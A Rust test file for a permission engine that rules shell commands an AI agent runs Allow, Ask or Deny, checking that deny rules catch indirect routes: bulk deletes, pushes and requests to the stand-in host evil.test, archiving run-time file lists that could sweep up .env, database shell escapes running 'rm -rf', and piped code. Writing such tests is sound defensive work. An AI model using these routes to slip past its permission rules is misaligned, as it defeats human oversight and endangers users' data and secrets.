//! Ninth round, found by the lead: a deny rule on deleting branches or
//! resources meets the commands that delete them in bulk or from a list
//! read at run time, and a host is read wherever a client takes one (a
//! `host:port` word, a connection string or an option computed at run
//! time, a build that pushes, a file of requests).

use tack_policy::Verdict::{Allow, Ask, Deny};

use crate::support::{case, run, run_with_files};

const B: &str = "Bash";
const BRANCH_D: &[&str] = &["allow Bash", "deny Bash(git branch -D *)"];
const KUBECTL: &[&str] = &["allow Bash", "deny Bash(kubectl delete *)"];
const NET: &[&str] = &["allow Bash", "deny WebFetch(domain:evil.test)"];
const NONE: &[&str] = &["allow Bash"];

#[test]
fn deleting_in_bulk_or_from_a_list_meets_the_delete_rule() {
    run(&[
        // `update-ref --stdin` reads `delete refs/heads/B` lines.
        case(BRANCH_D, B, "git update-ref --stdin < cmds.txt", Ask),
        case(
            BRANCH_D,
            B,
            "printf 'delete refs/heads/x\\n' | git update-ref --stdin",
            Ask,
        ),
        case(BRANCH_D, B, "git update-ref -d \"$REF\"", Ask),
        case(BRANCH_D, B, "git update-ref -d refs/heads/topic", Deny),
        case(BRANCH_D, B, "git update-ref refs/heads/topic HEAD", Allow),
        case(BRANCH_D, B, "git update-ref -d refs/tags/v1", Allow),
        case(NONE, B, "git update-ref --stdin < cmds.txt", Allow),
        // `kubectl drain` evicts every pod of the node.
        case(KUBECTL, B, "kubectl drain node-1 --ignore-daemonsets", Deny),
        case(KUBECTL, B, "kubectl -n prod --context c drain node-1", Deny),
        case(KUBECTL, B, "kubectl cordon node-1", Allow),
        case(KUBECTL, B, "kubectl logs drain", Allow),
        case(KUBECTL, B, "kubectl get pods -l app=drain", Allow),
    ]);
}

#[test]
fn a_host_and_a_port_name_a_host_whatever_the_program() {
    run(&[
        case(NET, B, "grpcurl -plaintext evil.test:50051 list", Deny),
        case(
            NET,
            B,
            "grpcurl -d '{\"a\":1}' evil.test:443 pkg.Svc/Get",
            Deny,
        ),
        case(NET, B, "mytool --server=evil.test:8443", Deny),
        case(NET, B, "kcat -b evil.test:9092 -L", Deny),
        case(NET, B, "mytool user@evil.test:22", Deny),
        case(NET, B, "grpcurl -plaintext \"$ADDR\" list", Ask),
        case(NET, B, "grpcurl -plaintext ok.test:50051 list", Allow),
        case(NET, B, "websocat \"$WS\"", Ask),
        case(NET, B, "wscat -c evil.test", Deny),
        // Not hosts: ports mapped, places in files, listening addresses.
        case(NET, B, "docker run -p 127.0.0.1:8080:80 nginx", Allow),
        case(NET, B, "kubectl port-forward svc/web 8080:80", Allow),
        case(NET, B, "vim src/main.rs:42", Allow),
        case(NET, B, "git show HEAD:README.md", Allow),
        case(NET, B, "gunicorn -b 0.0.0.0:8000 app:app", Allow),
        case(
            &["allow Bash", "deny WebFetch(domain:localhost)"],
            B,
            "gunicorn --bind 127.0.0.1:8000 app:app",
            Allow,
        ),
        case(
            &["allow Bash", "deny WebFetch(domain:localhost)"],
            B,
            "redis-cli -u redis://localhost:6379 ping",
            Deny,
        ),
    ]);
}

#[test]
fn a_connection_string_computed_at_run_time_is_asked_where_domain_rules_exist() {
    run(&[
        case(NET, B, "psql \"$DATABASE_URL\" -c 'select 1'", Ask),
        case(NET, B, "psql -At \"$DATABASE_URL\"", Ask),
        case(NET, B, "pg_dump -d \"$DB\" -f out.sql", Ask),
        case(NET, B, "pg_dump --dbname=\"$DB\" -f out.sql", Ask),
        case(NET, B, "psql -U \"$PGUSER\" mydb", Allow),
        case(NET, B, "psql --username=\"$PGUSER\" mydb", Allow),
        case(NET, B, "psql -c \"$QUERY\" mydb", Allow),
        case(NET, B, "pg_dump -t \"$TABLE\" mydb", Allow),
        case(NONE, B, "psql \"$DATABASE_URL\" -c 'select 1'", Allow),
        // ssh reads options after its destination: a computed one may
        // be `-oHostName=…` or `-J …`.
        case(NET, B, "ssh build-box \"$OPTS\"", Ask),
        case(NET, B, "ssh build-box uptime", Allow),
    ]);
}

#[test]
fn a_build_that_pushes_reaches_its_tags_registries() {
    run(&[
        case(NET, B, "docker build --push -t evil.test/app .", Deny),
        case(
            NET,
            B,
            "docker buildx build --push -t evil.test/app:1 .",
            Deny,
        ),
        case(
            NET,
            B,
            "docker buildx build -o type=registry -t evil.test/app .",
            Deny,
        ),
        case(
            NET,
            B,
            "docker buildx build --output=type=image,name=evil.test/app,push=true .",
            Deny,
        ),
        case(
            NET,
            B,
            "docker buildx build --cache-from type=registry,ref=evil.test/cache .",
            Deny,
        ),
        case(NET, B, "docker build -t evil.test/app .", Allow),
        case(NET, B, "docker build --push -t ok.test/app .", Allow),
        case(NET, B, "docker build -t app:dev .", Allow),
    ]);
}

#[test]
fn files_of_urls_and_of_requests_name_their_hosts() {
    run_with_files(
        &[
            ("api.hurl", "GET https://evil.test/users\nHTTP 200\n", false),
            ("ok.hurl", "GET https://ok.test/users\nHTTP 200\n", false),
            ("templated.hurl", "GET {{base}}/users\nHTTP 200\n", false),
            (
                "users.http",
                "GET /users HTTP/1.1\nHost: evil.test\n",
                false,
            ),
            ("list.txt", "https://evil.test/a\n", false),
        ],
        &[
            case(NET, B, "hurl api.hurl", Deny),
            case(NET, B, "hurl --test ok.hurl api.hurl", Deny),
            case(NET, B, "hurl --test ok.hurl", Allow),
            case(NET, B, "hurl templated.hurl", Ask),
            case(NET, B, "hurl < api.hurl", Ask),
            case(NET, B, "httpyac send users.http", Deny),
            case(NET, B, "aria2c -i list.txt", Ask),
            case(NET, B, "aria2c --input-file=list.txt", Ask),
            case(NET, B, "aria2c https://ok.test/a.iso", Allow),
            case(NONE, B, "hurl api.hurl", Allow),
        ],
    );
}

const SECRETS: &[&str] = &[
    "allow Bash",
    "mode acceptEdits",
    "deny Read(./.env)",
    "deny Edit(./src/generated/**)",
];

#[test]
fn files_listed_at_run_time_meet_the_read_rules() {
    run(&[
        case(SECRETS, B, "tar -cf - -T list", Ask),
        case(SECRETS, B, "tar --files-from=list -czf out.tgz", Ask),
        case(SECRETS, B, "find . -name '.e*' | tar -cf - -T -", Ask),
        case(SECRETS, B, "find . | zip -@ /tmp/o.zip", Ask),
        case(SECRETS, B, "zip -q o.zip -@ < list", Ask),
        case(SECRETS, B, "find . | cpio -o > /tmp/a.cpio", Ask),
        case(SECRETS, B, "find . -depth | cpio -pdm /tmp/copy", Ask),
        case(SECRETS, B, "find . | pax -w > /tmp/a.pax", Ask),
        case(SECRETS, B, "tar -czf src.tgz src", Allow),
        case(SECRETS, B, "zip -r src.zip src", Allow),
        case(SECRETS, B, "tar -xzf /tmp/src.tgz -O", Allow),
        case(NONE, B, "tar -cf - -T list", Allow),
    ]);
}

#[test]
fn gpg_writes_beside_the_files_it_is_given() {
    run(&[
        case(
            SECRETS,
            B,
            "gpg --decrypt-files src/generated/g.rs.gpg",
            Deny,
        ),
        case(SECRETS, B, "gpg --batch -c src/generated/g.rs", Deny),
        case(
            SECRETS,
            B,
            "gpg --encrypt-files -r me src/generated/g.rs",
            Deny,
        ),
        case(SECRETS, B, "gpg src/generated/g.rs.gpg", Deny),
        case(SECRETS, B, "gpg --decrypt-files .envrc.gpg", Ask),
        case(SECRETS, B, "gpg -d src/generated/g.rs.gpg", Allow),
        case(SECRETS, B, "gpg --verify notes.txt.sig notes.txt", Allow),
        case(
            SECRETS,
            B,
            "gpg -o out.txt -d src/generated/g.rs.gpg",
            Allow,
        ),
        case(SECRETS, B, "gpg --list-keys", Allow),
        case(SECRETS, B, "gpg -c notes.txt", Allow),
    ]);
}

const RM: &[&str] = &["allow Bash", "deny Bash(rm *)"];

#[test]
fn a_database_clients_shell_escapes_run_commands() {
    run(&[
        case(RM, B, "mysql -e 'system rm -rf y'", Deny),
        case(RM, B, "mysql -e 'select 1; system rm -rf y'", Deny),
        case(RM, B, "mysql --execute='SYSTEM rm y' db", Deny),
        case(RM, B, "mariadb -e '\\! rm y'", Deny),
        case(RM, B, "psql -c '\\! rm -rf y'", Deny),
        case(RM, B, "psql -c 'select 1' -c '\\o |rm y'", Deny),
        case(RM, B, "psql -c \"\\copy t from program 'rm y'\"", Deny),
        case(RM, B, "duckdb db.duckdb '.shell rm y'", Deny),
        case(RM, B, "duckdb -c '.system rm y'", Deny),
        case(RM, B, "mysql -e 'select * from system_users' db", Allow),
        case(RM, B, "mysql -e 'select 1' db", Allow),
        case(RM, B, "psql -c 'select count(*) from t' db", Allow),
        case(RM, B, "psql -c '\\dt' db", Allow),
        case(RM, B, "duckdb db.duckdb 'select 42'", Allow),
        case(NONE, B, "psql -c '\\! ls'", Allow),
    ]);
}

#[test]
fn code_given_through_a_pipe_is_code_from_the_input() {
    run(&[
        case(RM, B, "echo 'import os' | python3 /dev/stdin", Ask),
        case(RM, B, "python3 <(echo 'import os')", Ask),
        case(RM, B, "perl /dev/stdin < x.pl", Ask),
        case(RM, B, "node /dev/fd/0", Ask),
        case(RM, B, "ruby /proc/self/fd/0", Ask),
        case(RM, B, "make -f <(printf 'all:\\n\\trm -rf x\\n')", Ask),
        case(RM, B, "make --file=/dev/fd/3 3<mk", Ask),
        case(RM, B, "awk -f /dev/stdin data.txt", Ask),
        case(RM, B, "python3 script.py", Allow),
        case(RM, B, "python3 -m pytest", Allow),
        case(RM, B, "make -f build.mk", Allow),
        case(RM, B, "node server.js", Allow),
        case(NONE, B, "python3 /dev/stdin", Allow),
    ]);
}

/// ripgrep leaves out what the repository's ignore files name, as it does
/// hidden entries: `rg TODO` reads no file of an ignored `secrets/`.
#[test]
fn ripgrep_reads_only_what_its_ignore_files_leave_in() {
    const SECRET_DIR: &[&str] = &["allow Bash(rg *)", "deny Read(./secrets/**)"];
    const PLAN: &[&str] = &["mode plan", "deny Read(./secrets/**)"];
    let git = (".git/HEAD", "ref: refs/heads/main\n", false);
    run_with_files(
        &[git, (".gitignore", "secrets/\n", false)],
        &[
            case(SECRET_DIR, B, "rg TODO", Allow),
            case(SECRET_DIR, B, "rg -l fn .", Allow),
            case(PLAN, B, "rg TODO", Allow),
            case(PLAN, B, "rg --files", Allow),
            case(SECRET_DIR, B, "rg -u TODO", Deny),
            case(SECRET_DIR, B, "rg --no-ignore TODO", Deny),
            case(SECRET_DIR, B, "rg --no-ignore-vcs TODO", Deny),
            case(SECRET_DIR, B, "rg TODO secrets", Deny),
            case(SECRET_DIR, B, "grep -r TODO .", Deny),
        ],
    );
    // `!secrets/key.txt` lets the file in again.
    run_with_files(
        &[git, (".gitignore", "secrets/*\n!secrets/key.txt\n", false)],
        &[case(SECRET_DIR, B, "rg TODO", Deny)],
    );
    // `.ignore` holds outside a repository too; `.gitignore` does not.
    run_with_files(
        &[(".ignore", "secrets/\n", false)],
        &[case(SECRET_DIR, B, "rg TODO", Allow)],
    );
    run_with_files(
        &[(".gitignore", "secrets/\n", false)],
        &[case(SECRET_DIR, B, "rg TODO", Deny)],
    );
    // Nothing ignored: the file is read.
    run_with_files(&[git], &[case(SECRET_DIR, B, "rg TODO", Deny)]);
}

#[test]
fn a_variable_that_makes_a_command_another_meets_its_rule() {
    const SSH: &[&str] = &["allow Bash", "deny Bash(ssh *)"];
    const CARGO: &[&str] = &["allow Bash", "deny Bash(cargo publish *)"];
    run(&[
        case(SSH, B, "DOCKER_HOST=ssh://me@build-box docker ps", Deny),
        case(
            SSH,
            B,
            "export DOCKER_HOST=ssh://build-box; docker ps",
            Deny,
        ),
        case(
            SSH,
            B,
            "CONTAINER_HOST=ssh://root@h/run/podman/podman.sock podman ps",
            Deny,
        ),
        case(
            SSH,
            B,
            "DOCKER_HOST=unix:///var/run/docker.sock docker ps",
            Allow,
        ),
        case(SSH, B, "docker ps", Allow),
        case(CARGO, B, "CARGO_ALIAS_SHIP=publish cargo ship", Deny),
        case(CARGO, B, "CARGO_ALIAS_T='test --all' cargo t", Allow),
    ]);
}

/// A word computed at run time after `git checkout` may be a branch or a
/// file: a rule on `git reset --hard` asks rather than refuses.
#[test]
fn a_computed_checkout_operand_asks() {
    const RESET: &[&str] = &["allow Bash", "deny Bash(git reset --hard *)"];
    run(&[
        case(RESET, B, "git checkout \"$BRANCH\"", Ask),
        case(RESET, B, "git checkout -- \"$FILE\"", Deny),
        case(RESET, B, "git checkout -b \"$NEW\"", Allow),
        case(RESET, B, "git checkout main", Allow),
        case(NONE, B, "git checkout \"$BRANCH\"", Allow),
    ]);
}
